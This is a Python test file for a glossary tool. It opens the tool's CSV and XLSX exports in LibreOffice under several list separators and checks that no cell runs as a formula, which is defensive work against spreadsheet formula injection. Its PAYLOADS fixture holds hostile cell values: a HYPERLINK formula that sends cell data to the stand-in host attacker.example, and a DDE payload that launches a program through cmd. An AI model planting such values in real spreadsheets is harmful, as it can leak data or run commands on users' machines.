"""Every table the tool writes, opened in LibreOffice Calc as a spreadsheet user would: whatever the list separator of
the user's region (comma, semicolon, tab), no cell runs as a formula, and the dangerous text shows as text.

LibreOffice (Debian's libreoffice-calc-nogui) is installed by ``make test``; each file is converted to OpenDocument
and the sheet's XML is searched for formulas.
"""

from __future__ import annotations

import json
import shutil
import subprocess
import zipfile
from pathlib import Path

import pytest
from conftest import valid_glossary
from lxml import etree

from glossary_tool.core.config import Settings
from glossary_tool.core.model import Glossary
from glossary_tool.exchange import run_export
from glossary_tool.site.render.downloads import export_files

SOFFICE = shutil.which("soffice") or "/usr/bin/soffice"
TABLE = "urn:oasis:names:tc:opendocument:xmlns:table:1.0"
# Cells a spreadsheet would run (OWASP's list), and ones that hide a formula behind a separator of another region.
PAYLOADS = {
    "en": '=HYPERLINK("http://attacker.example/?"&A1,"click")',
    "sv": "+1+cmd|' /C calc'!A0",
    "def_en": "a;=1+1",
    "def_sv": "-2+3;@SUM(1,2)",
    # a quote or separator where a cell starts: read with ";" or tabs, the quotes could close there
    "note": '";=3+3',
    "term_note": "\t=4+4",
    "example": ";=5+5",
}
# (format, locales) of every CSV and workbook the command writes; the site's per-pair files come from export_files.
FORMATS = [
    ("csv", None),
    ("csv-pair", ("en", "sv")),
    ("csv-multi", None),
    ("deepl", ("en", "sv")),
    ("omegat", ("en", "sv")),
    ("xlsx", None),
    ("xlsx-multi", None),
]
# LibreOffice's CSV filter options: separator, quote character (34: "), character set (76: UTF-8), first line.
SEPARATORS = {"comma": "44", "semicolon": "59", "tab": "9"}


def dangerous_glossary(tmp_path: Path) -> tuple[Glossary, Settings]:
    q = json.dumps
    entry = f"""\
id: danger
kind: concept
category: model
sources:
  - title: A source
locales:
  en:
    terms:
      - {{text: {q(PAYLOADS["en"])}, type: fullForm, status: preferred, note: {q(PAYLOADS["term_note"])}}}
    definition: {q(PAYLOADS["def_en"])}
    notes: [{q(PAYLOADS["note"])}, "ends in a quote\\""]
    examples: [{q(PAYLOADS["example"])}]
  sv:
    terms:
      - {{text: {q(PAYLOADS["sv"])}, type: fullForm, status: preferred}}
    definition: {q(PAYLOADS["def_sv"])}
"""
    return valid_glossary(tmp_path, {"danger.yaml": entry})


def convert(files: list[Path], out: Path, separator: str | None, profile: Path) -> None:
    """Open ``files`` in LibreOffice (as CSV with ``separator``, or as workbooks) and save them as .ods in ``out``."""
    if not Path(SOFFICE).exists():
        pytest.fail("LibreOffice is not installed: `make test` installs Debian's libreoffice-calc-nogui (apt-get install libreoffice-calc-nogui)")
    command = [SOFFICE, f"-env:UserInstallation=file://{profile}", "--headless", "--norestore", "--convert-to", "ods", "--outdir", str(out)]
    if separator is not None:
        command.append(f"--infilter=CSV:{separator},34,76,1")
    proc = subprocess.run([*command, *map(str, files)], capture_output=True, text=True, timeout=180)
    assert proc.returncode == 0, proc.stderr
    assert sorted(p.stem for p in out.glob("*.ods")) == sorted(f.stem for f in files), proc.stdout + proc.stderr


def sheet(ods: Path) -> tuple[list[str], list[str]]:
    """The formulas of a converted file, and the text of its cells."""
    with zipfile.ZipFile(ods) as archive:
        root = etree.fromstring(archive.read("content.xml"))
    formulas = [c.get(f"{{{TABLE}}}formula") for c in root.iter(f"{{{TABLE}}}table-cell") if c.get(f"{{{TABLE}}}formula")]
    texts = ["".join(c.itertext()) for c in root.iter(f"{{{TABLE}}}table-cell")]
    return formulas, texts


@pytest.fixture(scope="module")
def exports(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """Every CSV, TSV and workbook the tool writes for the dangerous glossary, by name."""
    tmp = tmp_path_factory.mktemp("sheets")
    glossary, settings = dangerous_glossary(tmp)
    files: dict[str, Path] = {}
    for fmt, locales in FORMATS:
        suffix = ".xlsx" if fmt.startswith("xlsx") else ".csv"
        path = tmp / f"{fmt}{suffix}"
        path.write_bytes(run_export(glossary, settings, fmt, locales=locales).data)
        files[fmt] = path
    for download, data in export_files(glossary, settings):
        if download.file.endswith(".csv"):
            path = tmp / f"site-{download.file}"
            path.write_bytes(data)
            files[path.stem] = path
    return files


@pytest.mark.parametrize("separator", sorted(SEPARATORS))
def test_no_csv_cell_runs_as_a_formula_whatever_the_separator(exports: dict[str, Path], separator: str, tmp_path: Path) -> None:
    csvs = [p for p in exports.values() if p.suffix == ".csv"]
    assert len(csvs) >= 7  # csv, csv-pair, csv-multi, deepl, omegat and the site's two pair files
    convert(csvs, tmp_path / "out", SEPARATORS[separator], tmp_path / "profile")
    for ods in sorted((tmp_path / "out").glob("*.ods")):
        formulas, texts = sheet(ods)
        assert formulas == [], f"{ods.stem} with {separator}: {formulas}"
        if separator == "comma" and ods.stem != "omegat":
            # the payloads are there to read, as text (guarded by one leading ')
            assert any("HYPERLINK" in t for t in texts), ods.stem


def test_no_workbook_cell_is_a_formula(exports: dict[str, Path], tmp_path: Path) -> None:
    books = [p for p in exports.values() if p.suffix == ".xlsx"]
    convert(books, tmp_path / "out", None, tmp_path / "profile")
    for ods in sorted((tmp_path / "out").glob("*.ods")):
        formulas, texts = sheet(ods)
        assert formulas == [], ods.stem
        assert PAYLOADS["en"] in texts and PAYLOADS["def_sv"] in texts  # shown exactly as written: xlsx cells are text


def test_the_guard_would_be_needed(tmp_path: Path) -> None:
    # The check can fail: the same cells written without the guard and quoting run in LibreOffice.
    plain = tmp_path / "plain.csv"
    plain.write_text(f"term,definition\r\n{PAYLOADS['sv']},{PAYLOADS['def_en']}\r\n", encoding="utf-8")
    out = tmp_path / "out"
    convert([plain], out, SEPARATORS["semicolon"], tmp_path / "profile")
    formulas, _ = sheet(out / "plain.ods")
    assert formulas
